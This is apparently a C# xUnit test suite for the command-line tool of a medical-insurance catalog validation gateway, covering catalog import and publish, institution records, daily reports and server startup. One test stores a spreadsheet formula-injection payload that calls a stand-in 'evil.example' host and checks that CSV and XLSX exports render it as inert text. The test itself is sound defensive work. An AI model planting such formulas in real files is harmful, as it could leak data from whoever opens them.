using ValidationGateway.Core.Catalog;
using ValidationGateway.Server.Demo;
using ValidationGateway.Server.Tests.Support;
using ValidationGateway.Storage.Sqlite;
using ValidationGateway.Storage.Tests.TestSupport;

namespace ValidationGateway.Server.Tests.Cli;

/// <summary>`vgw` commands run in process against a temporary SQLite store, as an operator would type them.</summary>
public sealed class CliTests : CliTestBase
{
    [Fact]
    public async Task CatalogImportPublishList_Csv_RoundTrips()
    {
        var file = WriteFile("drugs.csv", """
            med_list_codg,name,begndate,enddate,vali_flag,chrgitm_lv,lmt_used_flag,pric_uplmt_amt,extra_column
            XA11CCA351E002010101121,艾地骨化醇软胶囊,2024-01-01,,1,02,1,,ignored
            ZD03AAA0043010100166,艾附暖宫丸,2024-01-01,2025-12-31,1,01,0,35.50,ignored
            """);

        var import = await VgwAsync("catalog", "import", "--version", "2026.12.1", "--kind", "drug", "--file", file);
        Assert.True(import.Exit == 0, import.Err);
        Assert.Contains("imported 2 drug rows into draft version 2026.12.1", import.Out, StringComparison.Ordinal);

        var publish = await VgwAsync("catalog", "publish", "--version", "2026.12.1");
        Assert.True(publish.Exit == 0, publish.Err);

        var list = await VgwAsync("catalog", "list");
        Assert.Contains("2026.12.1", list.Out, StringComparison.Ordinal);
        Assert.Contains("published", list.Out, StringComparison.Ordinal);
        Assert.Contains("drug 2", list.Out, StringComparison.Ordinal);

        await using var store = await SqliteGatewayStore.OpenAsync(Store, TimeProvider.System, CancellationToken.None);
        var rows = new List<CatalogRow>();
        await foreach (var row in store.ReadCatalogRowsAsync("2026.12.1", CancellationToken.None))
        {
            rows.Add(row);
        }

        var patent = Assert.Single(rows, r => r.Code == "ZD03AAA0043010100166");
        Assert.Equal(35.50m, patent.PriceCap);
        Assert.Equal(new DateOnly(2025, 12, 31), patent.EndDate);
        Assert.True(Assert.Single(rows, r => r.Code == "XA11CCA351E002010101121").RestrictedUse);
    }

    [Fact]
    public async Task CatalogImport_Xlsx_IsReadFromTheFirstSheet()
    {
        var file = Path.Combine(Directory, "services.xlsx");
        XlsxFile.Write(file,
            ["med_list_codg", "name", "lv1_hosp_item_pric", "lv2_hosp_item_pric", "lv3_hosp_item_pric"],
            ["001102000010000", "普通门诊诊查费", "5", "6.5", "8"]);
        var import = await VgwAsync("catalog", "import", "--version", "v-xlsx", "--kind", "service", "--file", file);
        Assert.True(import.Exit == 0, import.Err);
        Assert.Contains("imported 1 service rows", import.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CatalogImport_BadFile_ReportsEveryErrorWithRowAndColumnAndWritesNothing()
    {
        var file = WriteFile("bad.csv", """
            med_list_codg,name,begndate,vali_flag,pric_uplmt_amt
            XA11CCA351E002010101121,ok,2024-01-01,1,1.00
            ,no code,2024-01-01,1,1.00
            ZD03AAA0043010100166,bad date,2024-13-01,1,1.00
            ZD03AAA0043010100167,bad flag,2024-01-01,7,-3
            """);
        var import = await VgwAsync("catalog", "import", "--version", "2026.12.2", "--kind", "drug", "--file", file);
        Assert.Equal(1, import.Exit);
        Assert.Contains("bad.csv:3:med_list_codg", import.Err, StringComparison.Ordinal);
        Assert.Contains("bad.csv:4:begndate", import.Err, StringComparison.Ordinal);
        Assert.Contains("bad.csv:5:vali_flag", import.Err, StringComparison.Ordinal);
        Assert.Contains("bad.csv:5:pric_uplmt_amt", import.Err, StringComparison.Ordinal);
        Assert.Contains("nothing was written", import.Err, StringComparison.Ordinal);

        var list = await VgwAsync("catalog", "list");
        Assert.DoesNotContain("2026.12.2", list.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CatalogImport_MissingFile_IsAClearError()
    {
        var import = await VgwAsync("catalog", "import", "--version", "v1", "--kind", "drug", "--file", Path.Combine(Directory, "nope.csv"));
        Assert.Equal(1, import.Exit);
        Assert.Contains("nope.csv", import.Err, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CatalogImport_UnknownKind_IsRejectedByTheParser()
    {
        var file = WriteFile("x.csv", "med_list_codg\nXA11CCA351E002010101121\n");
        var import = await VgwAsync("catalog", "import", "--version", "v1", "--kind", "cheese", "--file", file);
        Assert.NotEqual(0, import.Exit);
        Assert.Contains("cheese", import.Err, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CatalogImport_IntoPublishedVersion_IsRefused()
    {
        var file = WriteFile("d.csv", "med_list_codg\nXA11CCA351E002010101121\n");
        Assert.Equal(0, (await VgwAsync("catalog", "import", "--version", "v1", "--kind", "drug", "--file", file)).Exit);
        Assert.Equal(0, (await VgwAsync("catalog", "publish", "--version", "v1")).Exit);
        var again = await VgwAsync("catalog", "import", "--version", "v1", "--kind", "drug", "--file", file);
        Assert.Equal(1, again.Exit);
        Assert.StartsWith("error: ", again.Err, StringComparison.Ordinal);
        Assert.Contains("v1", again.Err, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CatalogPublish_UnknownVersion_IsAClearError()
    {
        var publish = await VgwAsync("catalog", "publish", "--version", "nope");
        Assert.Equal(1, publish.Exit);
        Assert.Contains("nope", publish.Err, StringComparison.Ordinal);
    }

    [Fact]
    public async Task InstitutionAdd_ValidHospital_IsSavedWithLevelAndType()
    {
        var add = await VgwAsync("institution", "add", "--code", "H21010200999", "--name", "测试医院", "--level", "2", "--type", "hospital");
        Assert.True(add.Exit == 0, add.Err);
        await using var store = await SqliteGatewayStore.OpenAsync(Store, TimeProvider.System, CancellationToken.None);
        var saved = await store.GetInstitutionAsync("H21010200999", CancellationToken.None);
        Assert.NotNull(saved);
        Assert.Equal(2, saved.Level);
        Assert.Equal("210102", saved.AdminDivision);
    }

    [Fact]
    public async Task ReportDaily_InstitutionNameThatIsAFormula_IsTextInCsvAndXlsx()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")";
        Assert.Equal(0, (await VgwAsync("institution", "add", "--code", "H21010200999", "--name", Formula, "--level", "2", "--type", "hospital")).Exit);
        Assert.Equal(0, (await VgwAsync("institution", "add", "--code", "H21010200998", "--name", "+86 024 12345678", "--level", "1", "--type", "hospital")).Exit);

        var csv = await VgwAsync("report", "daily", "--date", "2026-11-22", "--format", "csv");
        Assert.True(csv.Exit == 0, csv.Err);
        var lines = csv.Out.TrimStart('\uFEFF').Split("\r\n");
        Assert.StartsWith("2026-11-22,H21010200998,'+86 024 12345678,hospital,1,210102,0,0,0,0.0000,", lines[1], StringComparison.Ordinal);
        Assert.StartsWith("2026-11-22,H21010200999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"查看\"\")\",hospital,2,", lines[2], StringComparison.Ordinal);

        var file = Path.Combine(Directory, "report.xlsx");
        var xlsx = await VgwAsync("report", "daily", "--date", "2026-11-22", "--format", "xlsx", "--out", file);
        Assert.True(xlsx.Exit == 0, xlsx.Err);
        Assert.Equal((Formula, false), Admin.XlsxSheet.Read(await File.ReadAllBytesAsync(file))[2][2]);
        using var document = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(file, false);
        Assert.Empty(document.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.CellFormula>());
    }

    [Theory]
    [InlineData("H2101020099", "hospital")]
    [InlineData("P21010200999", "hospital")]
    [InlineData("H21010200999", "pharmacy")]
    public async Task InstitutionAdd_CodeNotMatchingType_IsRefused(string code, string type)
    {
        var add = await VgwAsync("institution", "add", "--code", code, "--name", "x", "--level", "1", "--type", type);
        Assert.Equal(1, add.Exit);
        Assert.Contains(code, add.Err, StringComparison.Ordinal);
    }

    [Fact]
    public async Task DemoSeed_EmptyStore_PublishesDemoCatalogAndInstitutions()
    {
        var seed = await VgwAsync("demo", "seed");
        Assert.True(seed.Exit == 0, seed.Err);
        var list = await VgwAsync("catalog", "list");
        Assert.Contains(DemoDataSet.Version, list.Out, StringComparison.Ordinal);
        var again = await VgwAsync("demo", "seed");
        Assert.Equal(0, again.Exit);
        Assert.Contains("already published", again.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Serve_GrpcPortInUse_OneClearErrorNamingTheAddress()
    {
        using var occupant = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0);
        occupant.Start();
        var port = ((System.Net.IPEndPoint)occupant.LocalEndpoint).Port;

        var serve = await VgwAsync("serve", "--grpc-url", $"http://127.0.0.1:{port}", "--http-url", "http://127.0.0.1:0");

        Assert.Equal(1, serve.Exit);
        Assert.StartsWith($"error: Failed to bind to address http://127.0.0.1:{port}: address already in use: another process listens there", serve.Err, StringComparison.Ordinal);
        Assert.Contains("--grpc-url", serve.Err, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", serve.Err, StringComparison.Ordinal);
    }
}
